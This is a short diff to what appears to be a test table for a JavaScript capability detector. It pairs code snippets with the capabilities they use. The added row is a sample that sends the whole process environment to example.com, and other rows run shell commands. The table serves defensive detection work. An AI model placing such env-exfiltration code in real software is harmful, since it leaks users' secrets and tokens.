@@ -15,6 +15,7 @@ const SHOWN: readonly (readonly [code: string, ...capabilities: string[]])[] = [
   [`require('http').createServer(() => {})`],
   [`exports.token = process.env.TOKEN`, 'environment'],
   [`const { env } = process; exports.home = env['HOME']; fetch('/x')`, 'environment', 'network'],
+  [`fetch('https://example.com', { body: JSON.stringify(process.env) })`, 'environment', 'network'],
   [`if (process.env.NODE_ENV === 'production') exports.fast = true`],
   [`require('child_process').execFile('git', ['--version'])`, 'processes'],
   [`exports.run = (c) => require('child_process').exec(c)`, 'processes'],
